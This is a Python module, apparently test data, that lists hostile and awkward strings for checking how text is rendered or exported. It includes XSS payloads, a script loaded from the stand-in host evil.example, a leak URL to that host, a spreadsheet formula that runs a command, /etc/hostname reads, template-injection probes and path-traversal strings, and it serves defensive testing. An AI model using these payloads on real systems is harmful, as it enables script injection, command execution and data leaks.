"""Texts that mean something to a format they might end up in, or that are hard to show."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]><svg onload=alert(1)>",
    "</style><script src=//evil.example/x.js></script>",
    "<iframe src=javascript:alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "javascript:alert(1)",
    "file:///etc/hostname",
    "http://evil.example/?leak",
    '<a href="http://evil.example">here</a>',
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"here\")",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "{=1+1}",
    "=1/0",
)  # fmt: skip
MARKUP = (
    r"\N \T \E \G \l \r back\slash\\",
    "&lt;b&gt; &amp; &#0; &nbsp;",
    "<<table><tr><td>html label</td></tr></table>>",
    'quote " and } and ; and ] image="/etc/hostname"',
    "# not a heading",
    "| a | table | row |",
    "```mermaid\ngraph TD",
    "#set page(width: 1pt) #read(\"/etc/hostname\")",
    "$x^2$ `code` *bold* _em_ \\u{0}",
    "{{7*7}} ${7*7} %s %n {0}",
)  # fmt: skip
PATHS = ("../../outside", "..\\..\\outside", "/etc/outside", "C:\\outside", "CON", "nul.txt", "a/b:c*d?e", "...", " ")
HARD_TO_SHOW = (
    "\u202eright to left override\u202c",
    "مرحبا بالعالم שלום",
    "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
    "Z" + "\u0300" * 200,
    "\u200b\u2060\ufeff",
    "tab\there\nline\rreturn\x0bvertical\u2028separator",
    "word" * 2_000,
    "many words " * 2_500,
    "字" * 3_000,
    "\ufffe\uffff\U000e0001",
)
NUMBERS = ("1e308", "-1e308", "1e-320", "99999999999999999999999", "-1", "0", "NaN", "inf", "2958466", "1e5", "0x10")

HOSTILE = (*SCRIPTS, *FORMULAS, *MARKUP, *PATHS, *HARD_TO_SHOW, *NUMBERS)
